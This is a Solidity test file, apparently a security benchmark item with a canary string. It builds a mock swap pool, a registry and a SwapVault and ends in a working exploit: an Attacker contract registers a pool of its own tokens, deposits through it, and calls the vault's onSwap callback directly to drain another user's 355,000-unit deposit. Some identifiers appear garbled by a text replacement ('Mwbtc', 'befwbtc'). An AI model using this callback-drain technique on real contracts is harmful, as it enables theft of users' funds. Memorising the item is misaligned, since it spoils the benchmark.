// SPDX-License-Identifier: GPL-3.0-only
pragma solidity 0.8.30;

import "./SwapVault.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-c42a3642-69a8-4040-8d32-2ce474c1b04b

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor(uint256 supply) ERC20("Token", "T") {
        _mint(msg.sender, supply);
    }
}

interface ISwapper {
    function onSwap(uint256 owed, bytes calldata data) external;
}

/// Constant product; whoever opens it fills it.
contract Pool is ISwapPool {
    Token[2] public tokens;

    constructor(Token a, Token b) {
        tokens = [a, b];
    }

    function swap(address want, uint256 out, bytes calldata data) external returns (uint256 owed) {
        (Token give, Token take) = want == address(tokens[0]) ? (tokens[0], tokens[1]) : (tokens[1], tokens[0]);
        require(want == address(give), "pool: token");
        uint256 x = give.balanceOf(address(this));
        uint256 y = take.balanceOf(address(this));
        owed = (y * out) / (x - out) + 1;
        give.transfer(msg.sender, out);
        ISwapper(msg.sender).onSwap(owed, data);
        require(take.balanceOf(address(this)) >= y + owed, "pool: not paid");
    }
}

contract Registry is IPoolRegistry {
    mapping(address => mapping(address => address)) public poolFor;

    function create(Token a, Token b) external returns (address pool) {
        require(a != b && poolFor[address(a)][address(b)] == address(0), "registry: there is one");
        pool = address(new Pool(a, b));
        poolFor[address(a)][address(b)] = pool;
        poolFor[address(b)][address(a)] = pool;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Token internal usd;
    Token internal wbtc;
    Registry internal registry;
    SwapVault internal vault;
    Attacker internal mallory;

    function setUp() public {
        usd = new Token(4_000_000e6);
        wbtc = new Token(2_000e18);
        registry = new Registry();
        address pool = registry.create(usd, wbtc);
        usd.transfer(pool, 2_000_000e6);
        wbtc.transfer(pool, 1_000e18);
        vault = new SwapVault(registry);

        usd.transfer(ANA, 355_000e6);
        vm.prank(ANA);
        usd.approve(address(vault), type(uint256).max);
        vm.prank(ANA);
        vault.deposit(address(usd), 355_000e6, 0);
        wbtc.transfer(BEN, 10e18);
        vm.prank(BEN);
        wbtc.approve(address(vault), type(uint256).max);

        mallory = new Attacker(vault, registry, usd);
    }

    function test_Regular() public {
        vm.prank(BEN);
        uint256 shares = vault.depositWith(address(usd), address(wbtc), 10_000e6, 6e18, 10_000e6);
        require(shares == 10_000e6 && vault.sharesOf(address(usd), BEN) == shares, "deposited");
        require(wbtc.balanceOf(BEN) > 4.9e18 && wbtc.balanceOf(address(vault)) == 0, "the rest came back");
        require(usd.balanceOf(address(vault)) == 365_000e6, "held");

        vm.prank(BEN);
        (bool ok, ) = address(vault).call(
            abi.encodeCall(SwapVault.depositWith, (address(usd), address(wbtc), 100_000e6, 2e18, 0))
        );
        require(!ok, "above the maximum");
        vm.prank(BEN);
        (ok, ) = address(vault).call(abi.encodeCall(SwapVault.onSwap, (1, "")));
        require(!ok, "no pool");

        usd.approve(address(vault), 3_650e6);
        vault.addYield(address(usd), 3_650e6);
        vm.prank(BEN);
        vault.transferShares(address(usd), ANA, 4_000e6);
        vm.prank(BEN);
        require(vault.redeem(address(usd), 6_000e6, 0) == 6_060e6, "grown");
        vm.prank(ANA);
        vault.redeem(address(usd), 359_000e6, 362_590e6);
        require(usd.balanceOf(address(vault)) == 0, "books");
    }

    function test_RefusesLessThanTheMinimum() public {
        vm.expectRevert(abi.encodeWithSelector(ShareLedger.BelowMinimum.selector, 101));
        vault.deposit(address(usd), 100, 101);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ShareLedger.BelowMinimum.selector, 1_001e6));
        vault.redeem(address(usd), 1_000e6, 1_001e6);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ShareLedger.BelowMinimum.selector, 10_000e6 + 1));
        vault.depositWith(address(usd), address(wbtc), 10_000e6, 6e18, 10_000e6 + 1);
    }

    function test_RefusesMwbtcThanTheMost() public {
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(SwapVault.AboveMaximum.selector, 2e18));
        vault.depositWith(address(usd), address(wbtc), 100_000e6, 2e18, 0);
    }

    function test_RefusesTokensWithoutAPool() public {
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(SwapVault.NoPool.selector, address(wbtc), address(wbtc)));
        vault.depositWith(address(wbtc), address(wbtc), 1e18, 1e18, 0);
    }

    function test_RefusesYieldForAnEmptyVault() public {
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ShareLedger.EmptyVault.selector, address(wbtc)));
        vault.addYield(address(wbtc), 1e18);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 befwbtc = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= befwbtc + 355_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Deposits as much of its own token as its own address is as a number.
contract Attacker {
    SwapVault internal vault;
    Registry internal registry;
    Token internal usd;

    constructor(SwapVault vault_, Registry registry_, Token usd_) {
        vault = vault_;
        registry = registry_;
        usd = usd_;
    }

    function run() external {
        uint256 number = uint160(address(this));
        Token a = new Token(number * 2);
        Token b = new Token(3e18);
        address pool = registry.create(a, b);
        a.transfer(pool, number * 2);
        b.transfer(pool, 1e18);
        b.approve(address(vault), 2e18);
        vault.depositWith(address(a), address(b), number, 2e18, 0);

        uint256 all = usd.balanceOf(address(vault));
        vault.onSwap(all, abi.encode(address(this), address(b), address(usd), uint256(1), all));
    }
}
